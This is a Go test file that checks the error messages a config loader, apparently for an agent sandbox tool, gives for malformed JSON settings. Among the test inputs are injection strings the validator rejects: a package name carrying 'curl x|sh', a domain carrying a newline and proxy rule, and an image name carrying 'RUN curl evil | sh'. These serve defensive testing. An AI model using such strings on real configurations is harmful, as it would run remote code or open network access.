package config

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"
)

// domainHint ends every rejected allowlist entry's message.
const domainHint = `: write a hostname like "api.example.com" or a suffix like ".example.com"`

// TestLoadFileErrors loads each file of testdata/errors and checks the
// exact messages, each naming file:line:col of the offending value.
func TestLoadFileErrors(t *testing.T) {
	abs, err := filepath.Abs("testdata/errors")
	if err != nil {
		t.Fatal(err)
	}
	topKeys := "(valid keys: $schema, agent, backend, base, build, env, image, network, packages, pip_install, session, setup, sync, venv)"
	labels := "(only letters, digits, '-' and '.' are allowed, in labels of 1 to 63 characters)"
	tests := []struct {
		file string
		want []string // without the "testdata/errors/" prefix
	}{
		{"missing-comma.json", []string{
			`missing-comma.json:3:3: syntax error: invalid character '"' after object value (expecting ',' or '}'): is a comma missing?`}},
		{"unterminated.json", []string{`unterminated.json:4:1: syntax error: parsing string: unexpected EOF`}},
		{"empty.json", []string{`empty.json:1:1: syntax error: parsing value: unexpected EOF`}},
		{"invalid-utf8.json", []string{`invalid-utf8.json:1:15: invalid UTF-8: save the file as UTF-8`}},
		{"not-object.json", []string{`not-object.json:1:1: expected an object at the top level, got an array`}},
		{"reserved-env.json", []string{
			`reserved-env.json:4:5: env.PAUDE_AGENT_ARGS: "PAUDE_AGENT_ARGS": names starting with PAUDE_ are reserved for paude`}},
		{"unknown-key.json", []string{`unknown-key.json:3:3: unknown key "pacakges" in the top level ` + topKeys}},
		{"unknown-nested.json", []string{
			`unknown-nested.json:4:20: unknown key "cpus" in backend.resources.requests (valid keys: cpu, memory)`}},
		// Columns count characters: "café ☕" is 8 characters but 11 bytes.
		{"wide-chars.json", []string{`wide-chars.json:1:21: unknown key "x" in the top level ` + topKeys}},
		{"duplicate-key.json", []string{
			`duplicate-key.json:3:3: duplicate key "setup" in the top level: remove one of them`,
			`duplicate-key.json:4:16: env.A: expected a string, got a number`,
			`duplicate-key.json:4:19: duplicate key "A" in env: remove one of them`}},
		{"bad-quantity.json", []string{
			`bad-quantity.json:2:50: backend.resources.limits.memory: "8 GB" is not a quantity: write e.g. "500m" or "2" for CPU, "512Mi" or "8Gi" for memory and storage`}},
		{"zero-quantity.json", []string{
			`zero-quantity.json:2:49: backend.resources.requests.cpu: "0" must be greater than zero`,
			`zero-quantity.json:2:64: backend.resources.requests.memory: "-1Gi" must be greater than zero`,
			`zero-quantity.json:2:96: backend.workspace.size: "0" must be greater than zero`}},
		{"requests-over-limits.json", []string{
			`requests-over-limits.json:4:27: backend.resources.requests.cpu: the cpu request "2" is greater than the cpu limit "1500m": lower the request or raise the limit`,
			`requests-over-limits.json:4:42: backend.resources.requests.memory: the memory request "16Gi" is greater than the memory limit "8Gi": lower the request or raise the limit`}},
		{"package-injection.json", []string{
			`package-injection.json:2:24: packages[1]: "gcc;curl x|sh" is not a Debian package name: write a name like "gcc", optionally pinned like "curl=7.88.1-10"`}},
		{"domain-newline.json", []string{
			`domain-newline.json:3:24: network.allowedDomains[0]: "evil.com\nhttp_access allow all" is not a domain ` + labels + domainHint}},
		{"domain-forms.json", []string{
			`domain-forms.json:4:7: network.allowedDomains[0]: "*.example.com" is not a domain ` + labels + domainHint,
			`domain-forms.json:5:7: network.allowedDomains[1]: "example.com:443" is not a domain ` + labels + domainHint,
			`domain-forms.json:6:7: network.allowedDomains[2]: "https://example.com" is not a domain ` + labels + domainHint,
			`domain-forms.json:7:7: network.allowedDomains[3]: "10.0.0.1" is not a domain (an IP address)` + domainHint,
			`domain-forms.json:8:7: network.allowedDomains[4]: "exa mple.com" is not a domain ` + labels + domainHint,
			`domain-forms.json:9:7: network.allowedDomains[5]: ".com" is not a domain (a whole top-level domain, or a name without a dot)` + domainHint,
			`domain-forms.json:10:7: network.allowedDomains[6]: "localhost" is not a domain (a whole top-level domain, or a name without a dot)` + domainHint}},
		{"bad-duration.json", []string{
			`bad-duration.json:2:30: session.idleTimeout: "4 hours" is not a duration: use a number with a unit (s, m, h, d), e.g. "30m", "4h", "2d", or "0" for never`}},
		{"negative-duration.json", []string{
			`negative-duration.json:2:30: session.maxLifetime: duration "-1h" is negative: use a positive duration, or "0" for never`}},
		{"short-duration.json", []string{
			`short-duration.json:2:30: session.idleTimeout: "500ms" is too short: use at least "1s", or "0" for never`,
			`short-duration.json:3:31: backend.startTimeout: must be greater than zero, e.g. "5m"`}},
		{"wrong-types.json", []string{
			`wrong-types.json:2:15: packages: expected an array of strings, got a string`,
			`wrong-types.json:3:18: pip_install: expected true or false, got a string`,
			`wrong-types.json:4:12: setup: expected a string, got an array`,
			`wrong-types.json:5:16: env.A: expected a string, got a number`,
			`wrong-types.json:6:14: network: expected an object, got an array`,
			`wrong-types.json:7:49: backend.resources.requests.cpu: expected a string, got a number`,
			`wrong-types.json:8:11: venv: expected "auto", "none" or an array of strings, got null`}},
		{"venv-string.json", []string{
			`venv-string.json:2:11: venv: "yes" is not a venv setting: use "auto", "none" or an array of directories`}},
		{"paths.json", []string{
			`paths.json:2:12: venv[0]: "../outside" leaves the workspace: remove the ".."`,
			`paths.json:2:26: venv[1]: "/abs/venv" is absolute: write a path relative to the workspace`,
			`paths.json:2:39: venv[2]: "." is the workspace itself: name a directory inside it`,
			`paths.json:3:34: sync.exclude[1]: "a/../../b" leaves the workspace: remove the ".."`,
			`paths.json:3:47: sync.exclude[2]: must not be empty`}},
		{"base-and-build.json", []string{
			`base-and-build.json:3:12: build: "base" and "build" are alternatives: set only one of base, image and build`}},
		{"build-no-dockerfile.json", []string{
			`build-no-dockerfile.json:2:12: build: dockerfile is required: name the Dockerfile, relative to build-no-dockerfile.json`}},
		{"alternatives.json", []string{
			`alternatives.json:3:12: image: "base" and "image" are alternatives: set only one of base, image and build`,
			`alternatives.json:4:21: agent.name: "Aider Chat" is not a valid name: use lowercase letters, digits and '-'`,
			`alternatives.json:5:68: unknown key "target" in build (valid keys: args, context, dockerfile)`}},
		{"build-args.json", []string{
			`build-args.json:2:50: build.args.BAD-NAME: "BAD-NAME" is not a variable name: use letters, digits and '_', not starting with a digit`,
			`build-args.json:2:73: build.args.ok: expected a string, got a number`}},
		{"build-outside.json", []string{
			`build-outside.json:2:27: build.dockerfile: "` + filepath.Join(abs, "../../Dockerfile") + `" is outside the workspace: keep build files inside the project`,
			`build-outside.json:2:58: build.context: "/" is outside the workspace: keep build files inside the project`}},
		{"image-injection.json", []string{
			`image-injection.json:2:11: base: "debian\nRUN curl evil | sh" is not an image reference: write e.g. "docker.io/library/debian:bookworm-slim"`}},
		{"names.json", []string{
			`names.json:2:11: env.1BAD: "1BAD" is not a variable name: use letters, digits and '_', not starting with a digit`,
			`names.json:3:24: agent.command: "claude --yolo" is not a program: write a command name or path without spaces, and put arguments in agent.args`,
			`names.json:4:28: backend.namespace: "My_Team" is not a namespace name: use lowercase letters, digits and '-', at most 63 characters`,
			`names.json:4:69: backend.workspace.storageClass: "Fast SSD" is not a storage class name: use lowercase letters, digits, '-' and '.'`,
			`names.json:4:94: backend.registry: "https://quay.io" is not a registry: write a host with an optional port and path, e.g. "quay.io/myorg"`,
			`names.json:5:22: sync.method: "rsync" is not a sync method: use "auto", "devspace" or "native"`}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			path := "testdata/errors/" + tt.file
			cfg, err := LoadFile(path, "testdata/errors")
			if err == nil {
				t.Fatalf("LoadFile(%s) succeeded, want errors:\n%s", path, strings.Join(tt.want, "\n"))
			}
			if cfg != nil {
				t.Errorf("LoadFile(%s) returned a Config along with its error", path)
			}
			want := "testdata/errors/" + strings.Join(tt.want, "\ntestdata/errors/")
			if got := err.Error(); got != want {
				t.Errorf("LoadFile(%s) error:\n got: %s\nwant: %s", path, got, want)
			}
			var list ErrorList
			if !errors.As(err, &list) || len(list) != len(tt.want) {
				t.Fatalf("error is %T with %d entries, want an ErrorList of %d", err, len(list), len(tt.want))
			}
			for _, e := range list {
				if e.Path != path || e.Line < 1 || e.Col < 1 {
					t.Errorf("error %q has no position in %s", e, path)
				}
			}
		})
	}
}
